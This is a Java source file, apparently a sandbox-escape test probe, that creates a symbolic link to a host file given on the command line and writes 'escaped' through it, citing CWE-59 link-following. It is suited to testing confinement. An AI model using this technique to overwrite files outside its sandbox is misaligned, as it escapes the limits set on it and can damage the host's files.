package escape.files;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * Creates a symbolic link in the working directory that points at the host file FILE, then writes
 * through the link: the name the guest opens is its own, the file the OS opens is the host's.
 *
 * <p>Source: CWE-59, Improper Link Resolution Before File Access,
 * https://cwe.mitre.org/data/definitions/59.html
 */
public final class SymlinkWrite {

    private SymlinkWrite() {
    }

    public static void main(String[] args) {
        Path link = Path.of("escape-link-" + System.nanoTime());
        try {
            Files.createSymbolicLink(link, Path.of(args[0]));
            Files.write(link, "escaped\n".getBytes(StandardCharsets.US_ASCII));
            System.out.println("file-symlink: wrote through " + link.toAbsolutePath() + " -> " + Files.readSymbolicLink(link));
        } catch (Throwable t) {
            System.out.println("file-symlink: " + t);
        } finally {
            try {
                Files.deleteIfExists(link);
            } catch (Throwable ignored) {
                // the link is the guest's own litter
            }
        }
    }
}
